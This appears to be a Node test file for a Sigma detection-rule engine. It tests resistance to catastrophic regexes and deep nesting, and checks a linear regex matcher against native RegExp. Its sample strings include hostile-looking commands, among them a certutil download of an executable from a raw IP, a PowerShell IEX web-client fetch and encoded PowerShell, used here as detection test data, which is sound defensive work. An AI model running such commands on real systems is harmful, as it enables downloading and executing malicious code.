// Hostile rules and events: catastrophic regular expressions, huge values, deep nesting.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { evaluateRule, RuleSet } from '../../src/engine/index.ts';
import { LinearRegex } from '../../src/engine/regex-vm/index.ts';
import { normalizeRegex, parseSigmaText, type DetectionNode, type RegexPattern } from '../../src/sigma/index.ts';
import { CORPUS, corpusMissing } from '../support/corpus.ts';
import { plainProfile, ruleFromDetection } from '../support/rules.ts';

describe('hostile input', () => {
  test('catastrophic regex on a long value finishes', () => {
    const rule = ruleFromDetection("selection:\n    A|re: '(a+)+$'\ncondition: selection");
    const event = { A: `${'a'.repeat(50_000)}!` };
    assert.equal(new RuleSet([rule], plainProfile).match(event).length, 0);
    assert.equal(evaluateRule(rule, event, plainProfile), false);
  });

  test('nested quantifier regex still matches', () => {
    const rule = ruleFromDetection("selection:\n    A|re: '(\\w+\\s?)+x$'\ncondition: selection");
    assert.equal(new RuleSet([rule], plainProfile).match({ A: 'some words x' }).length, 1);
  });

  test('huge value with wildcards', () => {
    const rule = ruleFromDetection("selection:\n    A|contains|all: ['needle', 'other']\n    B: '*a*b*c*d*e*f*'\ncondition: selection");
    const big = 'x'.repeat(10_000_000);
    const event = { A: `${big}needle${big}other`, B: `${big}abcdef` };
    assert.equal(new RuleSet([rule], plainProfile).match(event).length, 1);
  });

  test('deeply nested event with keywords', () => {
    let event: Record<string, unknown> = { leaf: 'needle' };
    for (let depth = 0; depth < 10_000; depth++) event = { child: event };
    const rule = ruleFromDetection("keywords:\n    - 'needle'\ncondition: keywords");
    assert.doesNotThrow(() => new RuleSet([rule], plainProfile).match(event));
  });

  test('deep YAML nesting is an error, not a crash', () => {
    const text = `title: T\nlogsource:\n    product: x\ndetection:\n    sel: ${'['.repeat(20_000)}${']'.repeat(20_000)}\n    condition: sel\n`;
    const { rules, diagnostics } = parseSigmaText(text, 'deep.yml');
    assert.equal(rules.length, 0);
    assert.ok(diagnostics.length > 0);
  });
});

function regexPatterns(node: DetectionNode, into: RegexPattern[]): void {
  if (node.kind !== 'Item') {
    for (const item of node.items) regexPatterns(item, into);
    return;
  }
  for (const value of node.values) for (const pattern of value.patterns) if (pattern.kind === 'Regex') into.push(pattern);
}

test('linear matcher agrees with RegExp on every SigmaHQ regex', { skip: corpusMissing('sigma/rules') }, () => {
  const patterns: RegexPattern[] = [];
  const root = `${CORPUS}sigma/rules`;
  for (const name of readdirSync(root, { recursive: true, encoding: 'utf8' })) {
    if (!name.endsWith('.yml')) continue;
    const text = readFileSync(join(root, name), 'utf8');
    if (!text.includes('|re')) continue;
    for (const rule of parseSigmaText(text, name).rules) for (const search of rule.detection.searches) regexPatterns(search.body, patterns);
  }
  const samples = [
    'powershell.exe -enc SQBFAFgA', 'cmd.exe /c whoami', 'C:\\Windows\\System32\\rundll32.exe shell32.dll,Control_RunDLL',
    'curl -u admin: http://x', 'certutil -urlcache -f http://1.2.3.4/a.exe', '"C:\\a b\\x.exe" -p 1234', 'IEX (New-Object Net.WebClient)',
    'reg add HKLM\\Software\\x /v y /d z', '', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!', 'wmic process call create "calc"',
  ];
  let compared = 0;
  for (const pattern of patterns) {
    const parts = normalizeRegex(pattern.source, pattern);
    let linear: LinearRegex;
    try {
      linear = new LinearRegex(parts.source, parts);
    } catch {
      continue;
    }
    const native = new RegExp(parts.source, `${parts.ignoreCase ? 'i' : ''}${parts.multiline ? 'm' : ''}${parts.dotAll ? 's' : ''}`);
    for (const sample of samples) assert.equal(linear.test(sample), native.test(sample), `/${pattern.source}/ on ${JSON.stringify(sample)}`);
    compared++;
  }
  console.log(`linear matcher compared with RegExp on ${compared} of ${patterns.length} SigmaHQ regexes`);
  assert.ok(compared > patterns.length * 0.9);
});
